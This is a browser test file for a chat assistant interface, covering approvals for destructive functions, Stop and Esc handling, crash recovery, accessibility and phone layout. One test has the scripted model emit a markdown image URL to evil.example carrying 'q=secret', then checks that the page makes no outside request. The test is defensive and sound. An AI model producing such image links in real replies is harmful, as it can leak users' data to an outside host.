// A conversation with the assistant of the real probe, over a scripted model: messages, approvals, Stop, a killed process, and
// the box without a model.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { after, afterEach, before, test } from "node:test";

import { launch } from "./chromium.mjs";
import { ModelServer } from "./model-server.mjs";
import { beside, Refine } from "./refine.mjs";
import { Opened } from "./test-page.mjs";

let browser;
const model = new ModelServer();
const probe = new Refine(beside("probe"));
let open;

before(async () => {
  browser = await launch();
  await model.start();
  await probe.start(model.env);
});
after(async () => {
  await browser?.close();
  await probe.stop();
  await model.stop();
});
afterEach(async () => {
  await open?.close();
  open = null;
});

const link = () => execFileSync(probe.binary, ["link", "--data-dir", probe.data], { encoding: "utf8" }).trim();

async function opened(options) {
  open = await Opened.at(browser, link(), options);
  await open.state("live");
  return open.page;
}

async function write(page, text) {
  await page.getByLabel("Message to").fill(text);
  await page.getByLabel("Message to").press("Enter");
}

const question = (page) => page.locator("#turns .question").last();

test("a sentence is answered, functions run, and a destructive one waits for the click", async () => {
  const page = await opened();
  model
    .calls("echo", { text: "hello", times: 1 }, "I look first.")
    .calls("erase_words", { text: "all", times: 2 })
    .says("They are gone.");
  await write(page, "Say hello, then erase all words.");
  assert.equal(await page.getByLabel("Message to").inputValue(), "");
  await open.seen("Say hello, then erase all words.");
  await question(page).getByText("Erase words for good?").waitFor();
  await question(page).getByText("Asked for by the assistant, not typed by you.").waitFor();
  assert.equal(await page.getByText("Erased: all").count(), 0);
  await page.getByRole("region", { name: "Questions" }).getByText("asks").waitFor();
  await open.accessible("a conversation with an approval");
  // A click at the moment when the question appears is not meant for it.
  await page.waitForTimeout(700);
  await question(page).getByRole("button", { name: "Erase words" }).click();
  await open.seen("Erased: all");
  await page.locator("#turns").getByText("They are gone.").waitFor();
  await page.locator("#turns .by-assistant", { hasText: "The assistant, allowed by you" }).waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "hidden" });
  assert.equal(await page.locator("#turns").getByText("Thinking…").isVisible(), false);
  assert.doesNotMatch((await open.said()).join(" "), /Thinking/);
  await open.accessible("the end of a conversation");
});

test("the tab is closed in the middle, the process is killed, and the conversation goes on", async () => {
  const page = await opened();
  let release;
  const asked = model.requests.length;
  model.calls("echo", { text: "kept", times: 1 }).says("Never sent.", new Promise(() => {}));
  await write(page, "Say kept.");
  await open.seen("kept");
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor();
  while (model.requests.length < asked + 2) await new Promise((done) => setTimeout(done, 20));
  await page.close();
  await probe.crash();
  model.says("I said it.", new Promise((done) => (release = done)));
  await probe.start(model.env);
  const again = await open.context.newPage();
  open.page = again;
  await again.goto(probe.url);
  await open.state("live");
  release();
  await again.locator("#turns").getByText("I said it.").waitFor({ timeout: 30_000 });
  assert.equal(await again.locator("#turns .by-assistant", { hasText: "kept" }).count(), 1);
  assert.equal(model.requests.length, asked + 3, "the stored reply was not asked for again");
});

test("words appear while the model writes them, in a tab that is opened meanwhile too, and Stop keeps them", async () => {
  const page = await opened();
  let end;
  model.begins("First come these words", new Promise((done) => (end = done)));
  await write(page, "Speak slowly.");
  await page.locator("#turns").getByText("First come these words").waitFor();
  await open.accessible("an answer that is being written");
  const other = await open.context.newPage();
  await other.goto(probe.url);
  await other.locator("#turns").getByText("First come these words").waitFor();
  assert.equal(await other.locator("#turns").getByText("First come these words").count(), 1);
  await other.close();
  end();
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "hidden" });
  assert.equal(await page.locator("#turns").getByText("First come these words").count(), 1);
  model.begins("This is cut in its", new Promise(() => {}));
  await write(page, "Speak again.");
  await page.locator("#turns").getByText("This is cut in its").waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.locator("#turns .partial", { hasText: "This is cut in its" }).waitFor();
  assert.equal(await page.locator("#turns").getByText("This is cut in its").count(), 1);
});

test("Stop stops the answer, and a picture of another host is not loaded", async () => {
  const page = await opened();
  const asked = model.requests.length;
  model.says("Never said.", new Promise(() => {}));
  await write(page, "Talk for ever.");
  while (model.requests.length === asked) await new Promise((done) => setTimeout(done, 20));
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.locator("#turns").getByText("Answer was cancelled.").nth(1).waitFor();
  // Nothing had come: the message is back in the box.
  assert.equal(await page.getByLabel("Message to").inputValue(), "Talk for ever.");
  await page.getByLabel("Message to").fill("");
  const outside = [];
  page.on("request", (request) => request.url().startsWith(probe.url) || outside.push(request.url()));
  model.says("Look: ![a picture](https://evil.example/?q=secret) [a link](https://evil.example/x)");
  await write(page, "Show me.");
  await page.locator("#turns").getByText("Look:").waitFor();
  assert.deepEqual(outside, []);
});

test("Esc leaves editing, and pressed twice it stops the answer, which can go on or be tried again", async () => {
  const page = await opened();
  const box = page.getByLabel("Message to");
  model.says("Hello to you.");
  await write(page, "Helo there.");
  await open.seen("Hello to you.");
  await box.fill("half a thought");
  await page.locator("#turns .turn.user").last().getByRole("button", { name: "Edit and send again" }).click();
  await page.getByText("Editing your message of").waitFor();
  assert.equal(await box.inputValue(), "Helo there.");
  await open.accessible("an edited message");
  await box.press("Escape");
  assert.equal(await box.inputValue(), "half a thought");
  await box.fill("");
  await box.press("ArrowUp");
  await box.fill("Hello there.");
  model.begins("This goes on and", new Promise(() => {}));
  await box.press("Enter");
  await page
    .locator("#turns")
    .getByRole("button", { name: /Edited from \d\d:\d\d/ })
    .waitFor();
  await page.locator("#turns").getByText("This goes on and").waitFor();
  assert.equal(await page.getByRole("button", { name: /^Send/ }).isVisible(), false, "Stop is in its place");
  await box.press("Escape");
  await page.getByText("Esc again to stop").waitFor();
  await box.press("Escape");
  await page.locator("#turns .partial", { hasText: "This goes on and" }).waitFor();
  await page.getByText("Esc again to stop").waitFor({ state: "hidden" });
  assert.equal(await box.inputValue(), "", "words had come");
  assert.match((await open.said()).join(" "), /Stopped\. What was written is kept\./);
  const last = page.locator("#turns .turn.bot", { hasText: "Written until then" }).last();
  await last.getByText("Stopped", { exact: true }).waitFor();
  await open.accessible("a stopped answer");
  model.says("and on.");
  await last.getByRole("button", { name: "Go on" }).click();
  await open.seen("and on.");
  const messages = model.requests.at(-1).messages;
  assert.match(JSON.stringify(messages), /This goes on and/, "the model is told what it had written");
  model.says("Hello once more.");
  await last.getByRole("button", { name: "Try again" }).click();
  await open.seen("Hello once more.");
  assert.equal(model.requests.at(-1).messages.at(-1).content, "Hello there.");
});

test("messages wait for the answer before, and the last one can be removed", async () => {
  const page = await opened();
  model.begins("The first answer", new Promise(() => {}));
  await write(page, "One.");
  await page.locator("#turns").getByText("The first answer").waitFor();
  await page.getByLabel("Message to").fill("Two.");
  await page.getByRole("button", { name: "Send when done" }).click();
  await page.getByText("1 message waits for the answer before").waitFor();
  await open.accessible("a message that waits");
  await page.getByRole("button", { name: "Remove", exact: true }).click();
  await page.getByText("1 message waits").waitFor({ state: "hidden" });
  await page.getByLabel("Message to").fill("Three.");
  await page.getByLabel("Message to").press("Enter");
  model.says("To the third.");
  await page.getByRole("button", { name: "Send now (stops the answer)" }).click();
  await open.seen("To the third.");
});

test("a screen reader hears the beginning and the end of an answer, and its sentences if that is wanted", async () => {
  const page = await opened();
  let go;
  model
    .calls("echo", { text: "hello", times: 1 })
    .says("It said hello. All is well.", new Promise((done) => (go = done)));
  await write(page, "Say hello.");
  await page
    .locator("#announcer")
    .getByText(/is answering\.$/)
    .waitFor({ state: "attached" });
  go();
  const end = page.locator("#announcer").getByText("Answer, 6 words: It said hello. All is well. 1 action done.");
  await end.waitFor({ state: "attached" });
  const said = (await open.said()).filter((text) => /is answering/.test(text));
  assert.equal(said.length, 1);
  assert.equal(await page.locator(".live-text[aria-live]").count(), 0);

  await page.locator("#account > summary, #account > button").first().click();
  await page.getByLabel("Read answers while they come").check();
  await open.accessible("the setting for answers");
  await page.keyboard.press("Escape");
  let over;
  model.begins("First sentence. And half of a", new Promise((done) => (over = done)));
  await write(page, "Read to me.");
  await page.locator("#announcer").getByText("First sentence.", { exact: true }).waitFor({ state: "attached" });
  over();
  await page.locator("#announcer").getByText("End of the answer, 6 words.").waitFor({ state: "attached" });
});

test("a write is allowed in the conversation until it is taken back", async () => {
  const page = await opened();
  model.calls("echo", { text: "a text of others", times: 1 }).calls("linger", { millis: 1 }).says("Lingered.");
  await write(page, "Look, then linger.");
  await question(page).getByText("Linger?").waitFor();
  await page
    .locator("#question")
    .getByText(/^A question waits: Linger, Millis: 1\?|^A question waits: Linger/)
    .waitFor({
      state: "attached",
    });
  await page.waitForTimeout(700);
  await question(page)
    .getByRole("button", { name: /later ones in this conversation/ })
    .click();
  await open.seen("Lingered.");
  await page.getByText("Allowed in this conversation:").waitFor();
  await open.accessible("a function that is allowed in the conversation");
  model.calls("linger", { millis: 2 }).says("Again.");
  await write(page, "Once more.");
  await open.seen("Again.");
  const other = await open.context.newPage();
  await other.goto(probe.url);
  await other.getByText("Allowed in this conversation:").waitFor();
  await other.getByRole("button", { name: "Ask again before Linger" }).click();
  await other.getByText("Allowed in this conversation:").waitFor({ state: "hidden" });
  await other.close();
  model.calls("linger", { millis: 3 }).says("Not done.");
  await write(page, "And once more.");
  await question(page).getByText("Linger?").waitFor();
  await page.getByRole("button", { name: "Do not" }).last().click();
  await page.locator("#announcer").getByText("Kept. It was not run.").waitFor({ state: "attached" });
  await open.seen("Not done.");
});

test("Change opens the form, and running it from there is the answer", async () => {
  const page = await opened();
  model.calls("erase_words", { text: "these", times: 1 }).says("As you like.");
  await write(page, "Erase these.");
  await question(page).getByRole("button", { name: "Change…" }).click();
  const form = page.locator(".function-form");
  await form.getByLabel("Text", { exact: false }).first().fill("those");
  await form.locator("button[type=submit]").click();
  await page.locator("#confirm").getByRole("button", { name: "Erase words" }).click();
  await open.seen("Erased: those");
  await open.seen("As you like.");
  assert.equal(await page.getByText("Erased: these").count(), 0);
});

test("a function with one text is picked, and the box is its field", async () => {
  const refine = new Refine();
  await refine.start(model.env);
  try {
    const link = execFileSync(refine.binary, ["link", "--data-dir", refine.data], { encoding: "utf8" }).trim();
    open = await Opened.at(browser, link);
    await open.state("live");
    const { page } = open;
    const box = page.locator("#message");
    await box.fill("/check it  is done");
    await page.getByRole("option", { name: /^Check text/ }).waitFor();
    await page.getByRole("option", { name: "All functions…" }).waitFor();
    await box.press("Tab");
    await page.getByRole("button", { name: "Check text: leave this function" }).waitFor();
    assert.equal(await box.getAttribute("aria-label"), "Text of Check text");
    await open.accessible("a picked function");
    await box.press("Escape");
    assert.match(await box.getAttribute("aria-label"), /^Message to/);
    await box.fill("/check");
    await box.press("Tab");
    await box.fill("it  is done");
    await page.getByRole("button", { name: "Run", exact: true }).click();
    await open.seen("3 words, 1 thing to mend.").catch(() => open.seen("3 words, 2 things to mend."));
    assert.match(await box.getAttribute("aria-label"), /^Message to/, "the box is free again");
    await box.fill("/");
    await page.getByRole("option", { name: "All functions…" }).click();
    assert.equal(await page.evaluate(() => document.activeElement.id), "function-search");
  } finally {
    await refine.stop();
  }
});

test("it works at phone width, by keys, and keeps what was written", async () => {
  const page = await opened({ viewport: { width: 360, height: 640 } });
  const box = page.getByLabel("Message to");
  await box.fill("/ech");
  await page.getByRole("option", { name: "Echo" }).waitFor();
  await open.accessible("the menu of functions on a phone");
  await box.press("Escape");
  await page.getByRole("listbox", { name: "Fitting functions" }).waitFor({ state: "hidden" });
  await box.fill("a draft");
  await page.reload();
  await open.state("live");
  assert.equal(await page.getByLabel("Message to").inputValue(), "a draft");
  await open.fits("the message box");
  await page.getByLabel("Message to").fill("");
  model.says("On a phone too.");
  await write(page, "Hello from a phone.");
  await page.locator("#turns").getByText("On a phone too.").waitFor();
  await open.fits("a conversation");
  await open.accessible("a conversation on a phone");
});

test("a refused message can be put back into the box", async () => {
  const page = await opened();
  await page.route("**/v1/chat/say", (route) =>
    route.fulfill({ status: 429, json: { error: { code: "RATE_LIMITED", message: "Five messages wait already." } } }),
  );
  await write(page, "Too many.");
  await page.getByText("Five messages wait already.").waitFor();
  await page.getByRole("button", { name: "Put back into the box" }).click();
  assert.equal(await page.getByLabel("Message to").inputValue(), "Too many.");
  await page.getByLabel("Message to").fill("");
});

test("without a model the box finds functions by words and opens the form with the text", async () => {
  await probe.crash();
  await probe.start();
  const page = await opened();
  await page.getByText("No model is set").waitFor();
  const box = page.getByLabel("Find a function");
  await box.fill("erase these words");
  await page.getByRole("option", { name: "Erase words" }).waitFor();
  await open.accessible("the box without a model");
  await box.press("Enter");
  await page.locator("#side").getByRole("heading", { name: "Erase words" }).waitFor();
  assert.equal(
    await page.locator(".function-form textarea, .function-form input").first().inputValue(),
    "erase these words",
  );
});
